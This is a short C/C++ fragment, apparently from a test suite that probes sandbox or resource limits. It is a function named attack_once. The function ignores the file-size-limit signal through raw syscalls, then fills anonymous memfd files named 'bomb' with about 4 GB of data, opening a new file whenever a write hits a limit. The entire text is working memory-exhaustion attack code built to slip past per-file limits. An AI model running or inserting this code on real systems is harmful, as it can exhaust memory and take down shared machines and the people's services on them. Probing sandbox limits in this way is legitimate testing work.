// Hides memory in files without a name.
static void attack_once() {
    const struct { long handler, flags, restorer, mask; } ignore = {1, 0, 0, 0};
    sys(13, 25, &ignore, 0, 8); // the signal for files that are too large
    static char block[1 << 20];
    std::memset(block, 1, sizeof block);
    long fd = sys(319, "bomb", 0);
    for (int i = 0; i < 4096; i++) {
        if (sys(SYS_write, fd, block, sizeof block) < 0) { // files have a limit of their own
            fd = sys(319, "bomb", 0);
        }
    }
}
